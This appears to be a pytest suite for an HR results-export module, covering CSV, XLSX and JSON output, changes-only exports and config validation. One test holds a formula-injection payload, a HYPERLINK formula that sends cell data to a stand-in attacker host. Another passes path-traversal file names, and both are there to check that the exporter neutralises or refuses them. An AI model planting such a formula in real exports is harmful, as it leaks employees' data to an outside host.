"""`syncd.results.export` on a real state database: the file HR imports, in each format,
keyed by the HRIS employee id, written atomically, safe to open, and "only the changes
since the last export" exactly once each."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from syncd.config import load
from syncd.errors import ConfigError
from syncd.results.export import export
from syncd.results.rows import row
from syncd.state import results as store
from syncd.state.db import create_engine_for, session_factory
from syncd.vendors.base import ResultRecord, ResultStatus

NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
DONE = datetime(2026, 11, 30, 16, 45, 10, tzinfo=UTC)

CONFIG = """\
[state]
url = "{url}"

[sources.hris]
path = "export.csv"
columns = {{ employee_id = "Employee ID", first_name = "First", last_name = "Last", \
email = "Email" }}

[connections.lms]
vendor = "litmos"
base_url = "sandbox:"
credentials = {{ api_key = "unused" }}

[results]
outbound = "out"
columns = [{columns}]
{extra}
"""


def configured(tmp_path: Path, url: str, columns: str = "", extra: str = ""):
    columns = columns or '"employee_id", "item_name", "status", "percentage", "completed_at"'
    path = tmp_path / "syncd.toml"
    path.write_text(CONFIG.format(url=url, columns=columns, extra=extra), encoding="utf-8")
    return load(path)


def put(url: str, *records: ResultRecord, at: datetime = NOW) -> None:
    engine = create_engine_for(url)
    try:
        with session_factory(engine).begin() as db:
            revision = store.next_revision(db, "lms")
            store.upsert(db, "lms", [row(r) for r in records], revision=revision, now=at)
    finally:
        engine.dispose()


def result(person: str, item: str = "c1", **changes: object) -> ResultRecord:
    values: dict[str, object] = {
        "remote_user_id": f"r-{person}",
        "external_id": person,
        "username": f"{person}@corp.test",
        "item_kind": "course",
        "item_id": item,
        "item_name": "Safety",
        "status": ResultStatus.PASSED,
        "completed": True,
        "percentage": 100.0,
        "completed_at": DONE,
    }
    values.update(changes)
    return ResultRecord(**values)  # type: ignore[arg-type]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_has_one_header_the_employee_id_and_iso_dates(tmp_path, state_url):
    put(state_url, result("E1"), result("E2", percentage=62.5, status=ResultStatus.IN_PROGRESS))
    put(state_url, result("", item="c9", remote_user_id="r-hand-made", external_id=""))
    report = export(configured(tmp_path, state_url), now=NOW)
    assert report.path == tmp_path / "out" / "results-20261202T120000Z.csv"
    rows = read_csv(report.path)
    assert rows == [
        {
            "employee_id": "E1",
            "item_name": "Safety",
            "status": "passed",
            "percentage": "100",
            "completed_at": "2026-11-30",
        },
        {
            "employee_id": "E2",
            "item_name": "Safety",
            "status": "in_progress",
            "percentage": "62.5",
            "completed_at": "2026-11-30",
        },
    ]
    assert report.rows == 2 and report.unmanaged == 1
    assert not list((tmp_path / "out").glob("*.partial"))


def test_date_times_when_configured(tmp_path, state_url):
    put(state_url, result("E1"))
    report = export(configured(tmp_path, state_url, extra='dates = "datetime"'), now=NOW)
    assert read_csv(report.path)[0]["completed_at"] == "2026-11-30T16:45:10Z"


def test_a_course_name_that_is_a_formula_is_not_run_by_a_spreadsheet(tmp_path, state_url):
    evil = '=HYPERLINK("http://evil.test/?"&A1,"open")'
    put(state_url, result("E1", item_name=evil), result("@E2", item_name="-1+2"))
    cfg = configured(tmp_path, state_url)
    rows = read_csv(export(cfg, now=NOW).path)
    assert rows[0]["employee_id"] == "'@E2" and rows[0]["item_name"] == "'-1+2"
    assert rows[1]["item_name"] == "'" + evil
    book = openpyxl.load_workbook(export(cfg, fmt="xlsx", now=NOW.replace(minute=1)).path)
    sheet = book.active
    cells = [[c.value for c in line] for line in sheet.iter_rows()]
    assert cells[2][1] == evil, "xlsx keeps the text as text"
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)


def test_xlsx_and_json_hold_the_same_rows_as_csv(tmp_path, state_url):
    put(state_url, result("E1"), result("E2", percentage=None, completed_at=None))
    cfg = configured(tmp_path, state_url)
    as_csv = read_csv(export(cfg, now=NOW).path)
    book = openpyxl.load_workbook(export(cfg, fmt="xlsx", now=NOW.replace(second=1)).path)
    lines = [[c.value for c in line] for line in book.active.iter_rows()]
    header, body = lines[0], lines[1:]
    as_xlsx = [
        {k: "" if v is None else str(v) for k, v in zip(header, line, strict=True)} for line in body
    ]
    as_json = json.loads(export(cfg, fmt="json", now=NOW.replace(second=2)).path.read_text())
    assert header == list(as_csv[0])
    assert as_xlsx == as_csv
    assert [{k: str(v) for k, v in item.items()} for item in as_json] == as_csv


def test_changes_only_exports_each_change_once(tmp_path, state_url):
    cfg = configured(tmp_path, state_url, extra="changes_only = true")
    put(state_url, result("E1"), result("E2", status=ResultStatus.IN_PROGRESS))
    first = export(cfg, now=NOW)
    assert [r["employee_id"] for r in read_csv(first.path)] == ["E1", "E2"]
    empty = export(cfg, now=NOW.replace(minute=5))
    assert empty.rows == 0 and read_csv(empty.path) == []
    put(state_url, result("E2"), result("E1"))
    second = export(cfg, now=NOW.replace(minute=10))
    assert [(r["employee_id"], r["status"]) for r in read_csv(second.path)] == [("E2", "passed")]
    everything = export(cfg, changes_only=False, now=NOW.replace(minute=15))
    assert everything.rows == 2


def test_since_keeps_what_syncd_recorded_from_that_day(tmp_path, state_url):
    put(state_url, result("E1"), at=datetime(2026, 11, 1, tzinfo=UTC))
    put(state_url, result("E2"), at=NOW)
    report = export(configured(tmp_path, state_url), since=date(2026, 12, 1), now=NOW)
    assert [r["employee_id"] for r in read_csv(report.path)] == ["E2"]


def test_an_unwritable_outbound_folder_is_one_plain_error(tmp_path, state_url):
    """/proc exists and takes no new file, even from root (CI runs as root)."""
    put(state_url, result("E1"))
    cfg = configured(tmp_path, state_url, extra="").model_copy(
        update={
            "results": configured(tmp_path, state_url).results.model_copy(
                update={"outbound": "/proc"}
            )
        }
    )
    with pytest.raises(ConfigError, match=r"results\.outbound: cannot write /proc/results-"):
        export(cfg, now=NOW)


def test_an_outbound_path_that_is_a_file_is_one_plain_error(tmp_path, state_url):
    (tmp_path / "out").write_text("not a folder")
    with pytest.raises(ConfigError, match=r"results\.outbound: cannot create"):
        export(configured(tmp_path, state_url), now=NOW)
    assert (tmp_path / "out").read_text() == "not a folder"


def test_unknown_columns_are_refused_when_the_config_loads(tmp_path, state_url):
    with pytest.raises(ConfigError, match="unknown column"):
        configured(tmp_path, state_url, columns='"employee_id", "password"')


def test_an_xlsx_over_excels_row_limit_is_refused_and_leaves_no_file(
    tmp_path, state_url, monkeypatch
):
    from syncd.results import export as export_module

    monkeypatch.setattr(export_module, "XLSX_ROWS", 3)
    put(state_url, result("E1"), result("E2"), result("E3"))
    with pytest.raises(ConfigError, match=r"more than 2 rows, Excel's limit: use --format csv"):
        export(configured(tmp_path, state_url), fmt="xlsx", now=NOW)
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("name", ["../escape", "a/b", ".hidden", ""])
def test_an_export_name_that_is_not_a_plain_file_name_is_refused(tmp_path, state_url, name):
    with pytest.raises(ConfigError, match=r"results\.name"):
        configured(tmp_path, state_url, extra=f'name = "{name}"')
